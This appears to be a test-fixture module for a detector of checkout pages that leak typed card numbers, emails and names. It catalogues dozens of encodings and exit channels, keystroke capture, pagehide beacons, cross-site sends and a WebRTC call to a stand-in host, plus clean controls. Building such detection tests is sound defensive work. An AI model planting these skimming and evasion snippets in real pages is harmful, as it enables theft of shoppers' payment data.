// Pages that leak, each in one way: what their script does when the form is submitted. `card`,
// `email` and `name` are what was typed; `send` posts a text to another path of the shop.

/** Ways of writing a value. */
export const WRITTEN = {
  plain: "card",
  "in capitals": "email.toUpperCase()",
  "percent-encoded": "encodeURIComponent(email)",
  "percent-encoded twice": "encodeURIComponent(encodeURIComponent(email))",
  "each letter percent-encoded": "[...email].map((c) => '%' + c.charCodeAt(0).toString(16)).join('')",
  "as a form entry": "new URLSearchParams({ name }).toString()",
  base64: "btoa(card)",
  "base64, one byte before": "btoa('x' + card + ' more of it')",
  "base64, two bytes before": "btoa('xy' + card + ' more of it')",
  base64url: "btoa('???' + email).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')",
  "base64 with text before": "'id' + btoa(card)",
  "base64 twice": "btoa(btoa(card))",
  "base64, percent-encoded": "encodeURIComponent(btoa(JSON.stringify({ email, card })))",
  "base64 of UTF-16": "btoa([...email].map((c) => c + '\\0').join(''))",
  hex: "[...card].map((c) => c.charCodeAt(0).toString(16)).join('')",
  "hex in capitals, with colons": "[...email].map((c) => c.charCodeAt(0).toString(16).toUpperCase()).join(':')",
  "character codes": "[...name].map((c) => c.charCodeAt(0)).join()",
  "escapes of JSON": "JSON.stringify([...email].map((c) => '\\\\u00' + c.charCodeAt(0).toString(16)).join('')).slice(1, -1)",
  "JSON within JSON": "JSON.stringify({ a: JSON.stringify({ b: JSON.stringify({ email: 'x\"' + email }) }) })",
  "escapes of HTML": "[...email].map((c) => '&#' + c.charCodeAt(0) + ';').join('')",
  "escapes of HTML, hexadecimal": "[...card].map((c) => '&#x' + c.charCodeAt(0).toString(16) + ';').join('')",
  reversed: "[...email].reverse().join('')",
  "reversed, in base64": "btoa([...card].reverse().join(''))",
  "digits alone": "card.replace(/ /g, '')",
  "digits with dashes": "card.replace(/ /g, '-')",
  "letters with dots between": "[...name].join('.')",
  "split over two entries": "'a=' + card.slice(0, 10) + '&b=' + card.slice(10)",
  "split into fours": "card.split(' ').map((four, i) => 'cc' + i + '=' + four).join('&')",
  "split, the halves swapped": "'a=' + email.slice(9) + '&b=' + email.slice(0, 9)",
  "UTF-16": "[...email].map((c) => '\\0' + c).join('')",
};

const compress = (format) => `
  const stream = new Blob([JSON.stringify({ card, padding: "x".repeat(300) })]).stream()
    .pipeThrough(new CompressionStream("${format}"));
  const bytes = await new Response(stream).arrayBuffer();`;

/** Ways out of the page. */
export const DOORS = {
  "a request's address": "await fetch('/t?c=' + encodeURIComponent(card));",
  "a request's path": "await fetch('/t/' + btoa(card));",
  "an image's address": "new Image().src = '/t.gif?e=' + encodeURIComponent(email);",
  "a style's address": "document.body.style.background = 'url(/t.gif?e=' + btoa(email) + ')';",
  "a script's address": "document.head.append(Object.assign(document.createElement('script'), { src: '/t.js?' + btoa(card) }));",
  "a frame's address": "document.body.append(Object.assign(document.createElement('iframe'), { src: '/t?' + btoa(card) }));",
  "a frame's fragment": "document.body.append(Object.assign(document.createElement('iframe'), { src: '/t#' + btoa(card) }));",
  "a prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '/t?' + btoa(card) }));",
  "another site's address": "fetch(other + '/t?c=' + btoa(card), { mode: 'no-cors' });",
  "another site's frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: other + '/t?' + btoa(card) }));",
  "a header": "await fetch('/t', { headers: { 'x-debug': btoa(email) } });",
  "the referrer": "history.replaceState(null, '', '?e=' + btoa(email)); await fetch('/t');",
  "a body of text": "await fetch('/t', { method: 'POST', body: card });",
  "a body of entries": "await fetch('/t', { method: 'POST', body: new URLSearchParams({ card }) });",
  "a multipart body": "const data = new FormData(); data.set('c', card); await fetch('/t', { method: 'POST', body: data });",
  "a file in a multipart body": "const data = new FormData(); data.set('f', new File([email], 'a.txt')); await fetch('/t', { method: 'POST', body: data });",
  "a file's name": "const data = new FormData(); data.set('f', new File(['x'], email)); await fetch('/t', { method: 'POST', body: data });",
  "a blob": "await fetch('/t', { method: 'POST', body: new Blob([email]) });",
  "bytes": "await fetch('/t', { method: 'POST', body: new TextEncoder().encode('x' + card) });",
  "a gzip body": `${compress("gzip")} await fetch('/t', { method: 'POST', body: bytes });`,
  "a deflate body": `${compress("deflate")} await fetch('/t', { method: 'POST', body: bytes });`,
  "a raw deflate body": `${compress("deflate-raw")} await fetch('/t', { method: 'POST', body: bytes });`,
  "a gzip blob": `${compress("gzip")} await fetch('/t', { method: 'POST', body: new Blob([bytes]) });`,
  "gzip in base64": `${compress("gzip")} send(btoa(String.fromCharCode(...new Uint8Array(bytes))));`,
  "a Request object": "await fetch(new Request('/t', { method: 'POST', body: card }));",
  "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', '/t'); x.send(email);",
  "a keepalive request": "fetch('/t', { method: 'POST', body: card, keepalive: true });",
  "a beacon": "navigator.sendBeacon('/t', card);",
  "a beacon of a blob": "navigator.sendBeacon('/t', new Blob([JSON.stringify({ email })]));",
  "a WebSocket frame": "const s = new WebSocket(socket); await new Promise((open) => (s.onopen = open)); s.send(card);",
  "a binary WebSocket frame": "const s = new WebSocket(socket); await new Promise((open) => (s.onopen = open)); s.send(new TextEncoder().encode(card));",
  "a WebSocket's address": "new WebSocket(socket + '/?c=' + btoa(card));",
  "a WebSocket's protocol": "new WebSocket(socket, btoa(email).replaceAll('=', ''));",
  "an EventSource": "new EventSource('/t?c=' + btoa(card));",
  "a cookie": "document.cookie = 'c=' + encodeURIComponent(card);",
  "a cookie that is gone again": "document.cookie = 'e=' + email; document.cookie = 'e=; max-age=0';",
  "the cookie store": "await cookieStore.set('e', btoa(email));",
  "local storage": "localStorage.setItem('draft', JSON.stringify({ card }));",
  "local storage, as a property": "localStorage.draft = btoa(email);",
  "local storage that is gone again": "localStorage.draft = card; localStorage.clear();",
  "a key of local storage": "localStorage[email] = 1;",
  "session storage": "sessionStorage.draft = card;",
  "IndexedDB": `const db = await new Promise((done) => { const r = indexedDB.open('shop', 1);
    r.onupgradeneeded = () => r.result.createObjectStore('s', { autoIncrement: true }); r.onsuccess = () => done(r.result); });
    db.transaction('s', 'readwrite').objectStore('s').add({ draft: new Map([['c', card]]) });`,
  "a key of IndexedDB": `const db = await new Promise((done) => { const r = indexedDB.open('shop', 1);
    r.onupgradeneeded = () => r.result.createObjectStore('s'); r.onsuccess = () => done(r.result); });
    db.transaction('s', 'readwrite').objectStore('s').put(1, email);`,
  "the Cache": "await (await caches.open('c')).put('/x', new Response(JSON.stringify({ email })));",
  "an address in the Cache": "await (await caches.open('c')).put('/x?' + btoa(email), new Response('x'));",
  "the private file system": "const f = await (await navigator.storage.getDirectory()).getFileHandle('f', { create: true }); const w = await f.createWritable(); await w.write(card); await w.close();",
  "the console": "console.log('order', card);",
  "an object in the console": "console.debug({ deep: [{ draft: { form: { card } } }] });",
  "a table in the console": "console.table([{ email }]);",
  "an error that nobody catches": "setTimeout(() => { throw new Error('bad card ' + card); });",
  "a rejection that nobody catches": "void Promise.reject(new Error(email));",
  "history.state": "history.replaceState({ draft: { email } }, '');",
  "a state pushed and gone": "history.pushState({ card }, ''); history.replaceState(null, '');",
  "the address": "history.replaceState(null, '', '?card=' + encodeURIComponent(card));",
  "the fragment": "location.hash = btoa(email);",
  "the title": "document.title = 'Thanks, ' + name;",
  "window.name": "window.name = JSON.stringify({ card });",
  "postMessage to itself": "postMessage({ card }, '*');",
  "postMessage to a frame": "const f = document.querySelector('#same'); f.contentWindow.postMessage({ draft: email }, '*');",
  "postMessage to another site's frame": "document.querySelector('#cross').contentWindow.postMessage({ draft: email }, '*');",
  "a message port": "const { port1 } = new MessageChannel(); port1.postMessage([card]);",
  "a worker's message": "new Worker('/worker.js').postMessage({ card });",
  "a worker's source": "new Worker(URL.createObjectURL(new Blob(['self.v = ' + JSON.stringify(card)])));",
  "a worker's address": "new Worker('/worker.js?' + btoa(card));",
  "a shared worker's message": "new SharedWorker('/shared.js').port.postMessage(email);",
  "a service worker's message": "await navigator.serviceWorker.register('/worker.js'); const { active } = await navigator.serviceWorker.ready; active.postMessage({ card });",
  "a service worker's address": "await navigator.serviceWorker.register('/worker.js?' + btoa(card));",
  "a broadcast": "new BroadcastChannel('shop').postMessage({ email });",
  "a WebRTC message": "const p = new RTCPeerConnection(); const c = p.createDataChannel('c'); try { c.send(card); } catch {}",
  "a WebRTC address": "new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + btoa(email).replaceAll('=', '').toLowerCase() + '.t.example', username: card, credential: 'x' }].map(({ urls, ...rest }) => ({ urls: 'turn:127.0.0.1:9', ...rest })) });",
  "the clipboard": "navigator.clipboard.writeText(card).catch(() => {});",
  "a new window": "open('/t?' + btoa(card));",
  "a frame without a script": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('/t?' + btoa(card));",
  "a field's name and a field's value": "send(JSON.stringify({ [email.slice(0, 9)]: email.slice(9) }));",
  "split over two requests": "await fetch('/t?a=' + card.slice(0, 10)); await fetch('/t?b=' + card.slice(10));",
  "split over a cookie and the console": "document.cookie = 'a=' + email.slice(0, 10); console.log(email.slice(10));",
};

/** Leaks while the shopper types, and not at the submit. */
export const WHILE_TYPING = {
  "each change of an input": "form.addEventListener('input', ({ target }) => fetch('/t', { method: 'POST', body: target.value }));",
  "keys that are gathered": "let keys = ''; form.addEventListener('keydown', ({ key }) => (keys += key)); form.addEventListener('focusout', () => fetch('/t?k=' + btoa(keys)));",
  "an analytics tag": "form.addEventListener('change', () => { const d = {}; for (const i of form.querySelectorAll('input')) d[i.autocomplete || i.name] = i.value; navigator.sendBeacon('/t', JSON.stringify(d)); });",
  "a draft in storage": "form.addEventListener('input', ({ target }) => sessionStorage.setItem('draft-' + target.autocomplete, target.value));",
};

/** Leaks when the page is left by a native submit. */
export const ON_LEAVING = {
  "a beacon on pagehide": "addEventListener('pagehide', () => navigator.sendBeacon('/t', read('cc-number')));",
  "a beacon of a blob on pagehide": "addEventListener('pagehide', () => navigator.sendBeacon('/t', new Blob([read('cc-number')])));",
  "a keepalive request on visibilitychange": "document.addEventListener('visibilitychange', () => fetch('/t', { method: 'POST', keepalive: true, body: read('email') }));",
  "storage on beforeunload": "addEventListener('beforeunload', () => (localStorage.last = read('email')));",
  "a name taken back by the page": "form.addEventListener('submit', () => { const i = document.createElement('input'); i.type = 'hidden'; i.name = 'cart'; i.value = read('cc-number'); form.append(i); });",
};

/** What a good page does, and some that look like a leak and are none. */
export const CLEAN = {
  "nothing else": "",
  "the sealed line everywhere": `const line = new FormData(form).get('sealed'); console.log(line); localStorage.line = line;
    history.replaceState({ line }, '', '#' + btoa(line)); postMessage(line, '*'); document.cookie = 'line=' + line.slice(0, 3000);`,
  "an order in JSON": "send(JSON.stringify({ cart: '3 books', sealed: new FormData(form).get('sealed') }));",
  "what the policy passes": "document.cookie = 'cart=3+books'; console.log('country', read('country')); send('country=' + read('country'));",
  "the last four digits": "document.title = 'Card ending in ' + card.slice(-4); localStorage.last4 = card.slice(-4);",
  "numbers, hashes and times": `for (let i = 0; i < 40; i++) console.log(Date.now() + i, crypto.randomUUID(), Math.random());
    send(Array.from(crypto.getRandomValues(new Uint8Array(4000)), (b) => b.toString(16)).join(''));
    await fetch('/t', { method: 'POST', body: crypto.getRandomValues(new Uint8Array(20000)) });`,
  "the length of a field": "send(JSON.stringify({ length: card.length, valid: true, kind: 'card', name: 'cc-number' }));",
};
